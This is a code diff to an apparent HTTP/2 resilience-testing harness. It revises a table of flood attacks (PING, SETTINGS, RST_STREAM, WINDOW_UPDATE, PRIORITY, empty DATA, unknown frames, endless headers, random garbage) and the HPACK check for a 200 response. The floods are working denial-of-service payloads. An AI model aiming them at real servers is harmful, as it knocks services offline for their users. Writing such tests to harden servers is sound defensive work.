@@ -15,8 +15,8 @@ from hostile.attacker import Assault, Wire
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
 END_STREAM, END_HEADERS = 1, 4
-# HPACK's index for `:status: 200`, with which such a head begins.
-STATUS_200 = 0x88
+# With what the head of a 200 begins in HPACK: an index alone, or that of the name and a literal.
+STATUS_200 = (b"\x88", b"\x08\x03200", b"\x48\x03200")
 
 
 def frame(kind: int, flags: int = 0, stream: int = 0, payload: bytes = b"") -> bytes:
@@ -75,7 +75,7 @@ async def _answered(wire: Wire, *streams: int) -> bool:
         kind, owner, payload = await asyncio.wait_for(_next(wire), 5)
         if kind == HEADERS and owner in missing:
             missing.discard(owner)
-            if payload[0] != STATUS_200:
+            if not payload.startswith(STATUS_200):
                 return False
     return True
 
@@ -97,9 +97,9 @@ async def _flood(assault: Assault, what: Callable[[int], bytes], settings: bytes
     return "ended by the server" if done else "not ended"
 
 
-def _flooding(piece: Callable[[int], bytes]) -> Callable[[Assault], Coroutine[Any, Any, None]]:
+def _flooding(*pieces: Callable[[int], bytes]) -> Callable[[Assault], Coroutine[Any, Any, None]]:
     async def attack(assault: Assault) -> None:
-        await assault.repeat(4, 0.1, lambda: _flood(assault, piece))
+        await assault.repeat(4, 0.2, lambda: _flood(assault, random.choice(pieces)))
 
     return attack
 
@@ -200,10 +200,12 @@ ATTACKS: dict[str, Callable[[Assault], Coroutine[Any, Any, None]]] = {
     "pings": _flooding(lambda _: frame(PING, payload=bytes(8)) * 50),
     "settings": _flooding(lambda _: frame(SETTINGS) * 50),
     "resets": _flooding(_reset),
-    "windows": _flooding(lambda _: frame(WINDOW_UPDATE, payload=struct.pack(">I", 1)) * 50),
-    "priorities": _flooding(lambda _: frame(PRIORITY, 0, 1, bytes(4) + b"\x10") * 50),
-    "empty-data": _flooding(lambda n: frame(HEADERS, END_HEADERS, 1, head()) if n == 0 else frame(DATA, 0, 1) * 50),
-    "unknown": _flooding(lambda _: frame(0x77, payload=b"x" * 20) * 50),
+    "other-frames": _flooding(
+        lambda _: frame(WINDOW_UPDATE, payload=struct.pack(">I", 1)) * 50,
+        lambda _: frame(PRIORITY, 0, 1, bytes(4) + b"\x10") * 50,
+        lambda number: frame(HEADERS, END_HEADERS, 1, head()) if number == 0 else frame(DATA, 0, 1) * 50,
+        lambda _: frame(0x77, payload=b"x" * 20) * 50,
+    ),
     "endless-head": _flooding(_endless_head),
     "opened": _flooding(_opened),
     "garbage": _flooding(lambda _: random.randbytes(200)),
